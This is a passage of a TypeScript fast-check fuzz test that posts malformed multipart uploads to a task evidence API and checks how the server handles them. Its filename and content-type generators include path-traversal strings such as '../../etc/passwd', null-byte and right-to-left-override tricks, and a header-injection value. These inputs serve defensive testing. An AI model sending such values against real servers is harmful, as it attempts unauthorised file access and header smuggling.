        fc.string({ unit: 'grapheme', maxLength: 20 }),
      ),
      filename: fc.option(
        fc.oneof(
          fc.constantFrom(
            '../../etc/passwd',
            'C:\\Windows\\win.ini',
            'a\u0000b.pdf',
            '%00.pdf',
            'Biên bản nghiệm thu.pdf',
            '.'.repeat(300),
            '',
            '\u202Efdp.exe',
            'x"; name="file',
          ),
          fc.string({ unit: 'binary', maxLength: 80 }),
        ),
        { nil: null },
      ),
      type: fc.option(
        fc.oneof(
          fc.constantFrom(
            'application/pdf',
            'text/plain',
            'text/csv',
            'image/png',
            'image/jpg',
            'application/octet-stream',
            'text/html',
            'application/x-msdownload',
            'text/plain; charset=latin1',
            '../../x',
            '',
          ),
          fc.string({ unit: 'grapheme-ascii', maxLength: 40 }),
        ),
        { nil: null },
      ),
      content: fc.oneof(
        fc.uint8Array({ maxLength: 2000 }).map((a) => Buffer.from(a)),
        fc.constantFrom(
          PDF,
          PNG,
          Buffer.from('Đơn vị,Tỷ lệ\nSKHCN,58.4\n', 'utf8'),
          Buffer.alloc(0),
          Buffer.concat([PDF.subarray(0, 8), Buffer.from([0, 0xff, 0xfe])]),
        ),
        fc.string({ unit: 'grapheme', maxLength: 200 }).map((s) => Buffer.from(s, 'utf8')),
      ),
    });
    const boundary = fc.oneof(
      // RFC 2046 boundaries: tokens bare, or with its other characters in quotes.
      { arbitrary: fc.stringMatching(/^[A-Za-z0-9_.-]{1,70}$/).map((b) => ({ b, header: b })), weight: 3 },
      { arbitrary: fc.stringMatching(/^[A-Za-z0-9'()+_,./:=?-]{1,70}$/).map((b) => ({ b, header: `"${b}"` })), weight: 1 },
      {
        arbitrary: fc
          .oneof(
            fc.constantFrom('"quoted"', '-'.repeat(70), 'a'.repeat(200), 'a b', 'x;y'),
            fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 70 }),
          )
          .map((b) => ({ b, header: b })),
        weight: 1,
      },
    );
    const mangle = fc.oneof(
      { arbitrary: fc.constant('none'), weight: 6 },
      {
        arbitrary: fc.constantFrom('truncate', 'noClosing', 'otherBoundary', 'noBoundaryParam', 'lf', 'headerGarbage', 'preamble'),
        weight: 4,
      },
    );
    // Well-formed forms (one file in "file", maybe a description) reach the content checks and the workflow; the rest is garbage.
    const wellFormed = fc
      .tuple(
        part,
        fc.option(fc.oneof(nastyString, fc.string({ unit: 'grapheme', maxLength: 300 })), { nil: null }),
        fc.constantFrom('pdf', 'png', 'text', 'any'),
      )
      .map(([p, description, kind]) => {
        const file = {
          ...p,
          name: 'file',
          filename: p.filename ?? 'minh-chung',
          content:
            kind === 'pdf'
              ? PDF
              : kind === 'png'
                ? PNG
                : kind === 'text'
                  ? Buffer.from(`Tỷ lệ phủ sóng 5G: 58,4% ${p.name}`, 'utf8')
                  : p.content,
        };
        return description === null
          ? [file]
          : [{ name: 'description', filename: null, type: null, content: Buffer.from(description, 'utf8') }, file];
      });
    const form = fc.oneof({ arbitrary: wellFormed, weight: 3 }, { arbitrary: fc.array(part, { minLength: 0, maxLength: 7 }), weight: 2 });
    await fc.assert(
      // Mostly an open task; sometimes one awaiting review, whose workflow refuses the file after the API stored it (the row must go).
      fc.asyncProperty(
        form,
        boundary,
        mangle,
        fc.nat(),
        fc.boolean(),
        fc.constantFrom('uploads', 'uploads', 'uploads', 'submitted'),
        async (parts, { b, header: boundaryParam }, how, cut, withKey, target) => {
          const sep = how === 'lf' ? '\n' : '\r\n';
          const chunks: Buffer[] = [];
          if (how === 'preamble') chunks.push(Buffer.from(`garbage before the first boundary${sep}`));
          for (const p of parts) {
            const disposition = `Content-Disposition: form-data; name="${p.name}"${p.filename !== null ? `; filename="${p.filename}"` : ''}`;
            const header =
              how === 'headerGarbage'
                ? `Content-Dispositio: ${p.name}${sep}X: ${p.filename}`
                : `${disposition}${p.type !== null ? `${sep}Content-Type: ${p.type}` : ''}`;
            chunks.push(Buffer.from(`--${b}${sep}${header}${sep}${sep}`, 'utf8'), p.content, Buffer.from(sep));
          }
          if (how !== 'noClosing') chunks.push(Buffer.from(`--${b}--${sep}`));
          let body = Buffer.concat(chunks);
          if (how === 'truncate' && body.length > 0) body = body.subarray(0, cut % body.length);
          const type =
            how === 'noBoundaryParam'
              ? 'multipart/form-data'
              : `multipart/form-data; boundary=${how === 'otherBoundary' ? 'not-the-one' : boundaryParam}`;
          const res = await clean(
            `evidence ${how} ${type} parts=${JSON.stringify(parts.map((p) => [p.name, p.filename, p.type, p.content.length]))}`,
            () => {
              const req = http()
                .post(`/api/v1/tasks/${world[target as 'uploads' | 'submitted']}/evidence`)
                .set('authorization', lead)
                .set('content-type', type);
              return (withKey ? req.set('idempotency-key', `fuzz-${uniq()}`) : req).send(body);
            },
            { validKey: withKey },
          );
          if (res.status === 201) {
            // Accepted: the file is stored, attached and served back byte for byte.
            const download = await http().get(res.headers.location).set('authorization', lead);
            expect(download.status).toBe(200);
          }
        },
      ),
      params(),
    );
  });
});
